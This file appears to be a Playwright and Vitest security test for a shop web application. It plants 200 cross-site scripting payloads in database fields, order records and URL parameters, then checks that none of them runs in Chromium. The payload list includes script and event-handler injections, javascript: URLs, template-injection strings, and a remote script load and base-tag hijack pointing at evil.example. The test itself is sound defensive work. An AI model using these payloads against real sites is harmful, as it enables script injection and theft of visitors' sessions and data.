/**
 * Two hundred scripts in disguise, in every text that pages show: Chromium runs none of them and reports no violation,
 * as the server rendered the page and after hydration (reliability R16).
 */

import { chromium } from '@playwright/test';
import type { Browser, Page } from '@playwright/test';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { PATHS } from '#contract/page-paths.ts';
import { openPayment, pay, verifyPayment } from '#tests/support/buying.ts';
import { startTestShop } from '#tests/support/test-shop.ts';
import { until } from '#tests/support/until.ts';
import { findTestChromium } from '../../tools/find-chromium.ts';
import { TIME_LIMIT_MS, pick } from './size.ts';

const RUN = 'pwned()';
/** Each in several contexts: as text, at the end of an attribute, of a script, of a comment, of state. */
const BARE = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src=javascript:parent.${RUN}>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN} autofocus onfocus=${RUN}>x</a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.example/>`,
  `<form action=javascript:${RUN}><input type=submit autofocus>`,
  `<math><mtext><script>${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `'-${RUN}-'`,
  `"-${RUN}-"`,
  `\`-${RUN}-\``,
  `\\');${RUN}//`,
  `\u2028${RUN}\u2029`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];
const ENDS = ['', '">', `'>`, '</script>', '--></title></textarea></style>', ']]>'];
const PAYLOADS = ENDS.flatMap((end) => BARE.map((bare) => end + bare)).slice(0, 200);

const shop = await startTestShop({ demo: true, pages: true });
let browser: Browser;
let page: Page;
const seen = { ran: 0, violations: [] as string[], reports: 0, errors: [] as string[], looked: 0 };

beforeAll(async () => {
  await poison();
  browser = await chromium.launch({ executablePath: await findTestChromium(() => undefined), args: ['--no-sandbox'] });
  page = await browser.newPage();
  await page.exposeFunction('pwned', () => void (seen.ran += 1));
  await page.exposeFunction('violated', (what: string) => void seen.violations.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      Reflect.get(globalThis, 'violated')(`${effectiveDirective} ${blockedURI}`),
    );
  });
  page.on('dialog', (dialog) => {
    seen.ran += 1;
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { hostname, pathname } = new URL(request.url());
    if (hostname.endsWith('evil.example') || pathname.startsWith('/api/csp-reports/')) seen.reports += 1;
  });
  page.on('pageerror', (error) => seen.errors.push(String(error)));
});
afterAll(async () => {
  await browser.close();
  await shop.close();
});

/** All that an owner's folder can bring, without the checks of the import: as if they had been got round. */
async function poison(): Promise<void> {
  let next = 0;
  const take = (count: number) => Array.from({ length: count }, () => PAYLOADS[(next += 1) % PAYLOADS.length] ?? '');
  const each = async (table: string, columns: readonly string[]) => {
    for (const column of columns) {
      next += 1;
      await sql`update ${sql.table(table)} t set ${sql.ref(column)} = (${PAYLOADS}::text[])[1 + (r.number * 7 + ${next}) % 200] || ' ' || r.number
        from (select ctid, row_number() over () as number from ${sql.table(table)}) r where t.ctid = r.ctid`.execute(
        shop.database,
      );
    }
  };
  await each('company', ['name', 'tagline', 'description', 'address', 'phone', 'email', 'hours', 'days']);
  await each('equipment_categories', ['name', 'description', 'meta_title', 'meta_description']);
  await each('sections', ['label', 'description']);
  await each('manufacturers', ['label', 'url']);
  await each('galleries', ['name', 'description', 'meta_title', 'meta_description']);
  await each('gallery_images', ['title', 'description', 'alt_text']);
  await each('shop_categories', ['name', 'description']);
  await each('attachments', ['filename', 'description']);
  await sql`update company set story = ${take(5)}`.execute(shop.database);
  const { rows: products } = await sql<{ id: number }>`select id from products order by id limit 60`.execute(
    shop.database,
  );
  for (const { id } of products) {
    const [name = '', description = '', material = '', part = '', key = '', value = '', alt = '', tag = ''] = take(8);
    await sql`update products set name = ${name}, description = ${description}, material = ${material}, part_number = ${`${part} ${id}`},
      tags = ${[tag]}, specifications = ${JSON.stringify([{ key, value }])}::jsonb,
      images = (select coalesce(jsonb_agg(jsonb_set(i, '{alt_text}', to_jsonb(${alt}::text))), '[]') from jsonb_array_elements(images) i)
      where id = ${id}`.execute(shop.database);
  }
  // One product that holds all of them.
  await sql`update products set specifications = ${JSON.stringify(PAYLOADS.map((value, at) => ({ key: `${at} ${PAYLOADS[(at + 7) % PAYLOADS.length]}`, value })))}::jsonb,
    tags = ${PAYLOADS.slice(0, 60)} where id = ${products[0]?.id}`.execute(shop.database);
}

/** As rendered by the server, and then hydrated. */
async function look(path: string): Promise<void> {
  const reply = await page.goto(shop.url + path, { waitUntil: 'load' });
  expect([path, (reply?.status() ?? 0) < 500]).toEqual([path, true]);
  // What runs may be what holds the hydration up.
  await until('the page is hydrated, or something ran', async () => hasRun() || (await isHydrated()), TIME_LIMIT_MS);
  seen.looked += 1;
}

function isHydrated(): Promise<boolean> {
  return page.evaluate(() =>
    [document.body.firstElementChild ?? document.body, document].some((node) =>
      Object.keys(node).some((key) => key.startsWith('__react')),
    ),
  );
}

function hasRun(): boolean {
  return seen.ran + seen.reports + seen.violations.length + seen.errors.length > 0;
}

function expectNothingRan(): void {
  expect(seen).toEqual({ ran: 0, violations: [], reports: 0, errors: [], looked: seen.looked });
}

test('there are two hundred of them, and one that is let run would be seen', { timeout: TIME_LIMIT_MS }, async () => {
  expect(new Set(PAYLOADS).size).toBe(200);
  await page.goto(`${shop.url}/favicon.svg`);
  await page.goto(`${shop.url}/about`);
  await page.evaluate(() => Reflect.get(globalThis, 'pwned')());
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'pwned()');
    image.src = '/none.png';
    document.body.append(image);
  });
  await expect.poll(() => seen.violations.length).toBeGreaterThan(0);
  expect(seen.ran).toBe(1);
  Object.assign(seen, { ran: 0, violations: [], reports: 0, errors: [] });
});

test("in the owner's data: none runs on any kind of page", { timeout: TIME_LIMIT_MS, tags: 'long' }, async () => {
  const { rows: products } = await sql<{
    id: number;
  }>`select id from products order by id limit ${pick({ fast: 3, full: 60 })}`.execute(shop.database);
  const slugs = async (table: string) =>
    (
      await sql<{ slug: string }>`select slug from ${sql.table(table)} limit ${pick({ fast: 1, full: 20 })}`.execute(
        shop.database,
      )
    ).rows;
  const paths = [
    ...Object.values(PATHS),
    `${PATHS.shop}?page=2`,
    '/none',
    ...products.map(({ id }) => `/product/${id}`),
    ...(await slugs('equipment_categories')).map(({ slug }) => `/equipment/${slug}`),
    ...(await slugs('galleries')).map(({ slug }) => `/gallery/${slug}`),
  ];
  for (const path of paths) await look(path);
  const first = products[0]?.id ?? 0;
  await look(`/product/${first}`);
  const shown = await page.evaluate(() => document.body.innerHTML);
  expect(shown.split('pwned').length).toBeGreaterThan(200);
  expectNothingRan();
});

test('in an address: none runs, whatever the page makes of it', { timeout: TIME_LIMIT_MS, tags: 'long' }, async () => {
  const parameters = [
    '/shop?q=',
    '/shop?category=',
    '/shop?sort=',
    '/payment-failed?reason=',
    '/payment-failed?order=',
    '/checkout?retry=',
    '/order-success?session_id=',
    '/order-confirmation/token/',
    '/gallery/',
    '/product/',
    '/',
  ];
  const step = pick({ fast: 100, full: 1 });
  for (const [at, before] of parameters.entries()) {
    for (let count = at % step; count < PAYLOADS.length; count += step) {
      await page.goto(shop.url + before + encodeURIComponent(PAYLOADS[count] ?? ''), { waitUntil: 'load' });
    }
    await page.waitForLoadState('networkidle');
  }
  expectNothingRan();
});

test("in an order: none runs on the buyer's own page", { timeout: TIME_LIMIT_MS }, async () => {
  const buyer = shop.browser();
  const { rows } = await sql<{
    id: number;
  }>`select id from products where is_available and stock > 5 order by id desc limit 1`.execute(shop.database);
  const { orderNumber, url, sessionId } = await openPayment(buyer, { [Number(rows[0]?.id)]: 1 });
  await pay(url);
  const verified = await verifyPayment(buyer, { orderNumber, sessionId });
  const token: string = verified.body.order.confirmation_token;
  for (const [at, payload] of PAYLOADS.filter((_, index) => index % pick({ fast: 70, full: 4 }) === 0).entries()) {
    const more = PAYLOADS[(at + 3) % PAYLOADS.length] ?? '';
    await sql`update orders set customer_first_name = ${payload}, customer_last_name = ${more}, shipping_address_line1 = ${payload},
      shipping_city = ${more}, shipping_state = ${payload}, shipping_postal_code = ${more}`.execute(shop.database);
    await sql`update order_items set name = ${payload}, part_number = ${more}`.execute(shop.database);
    await look(`/order-confirmation/token/${token}`);
    await page.getByText(orderNumber).filter({ visible: true }).first().waitFor();
  }
  expectNothingRan();
});
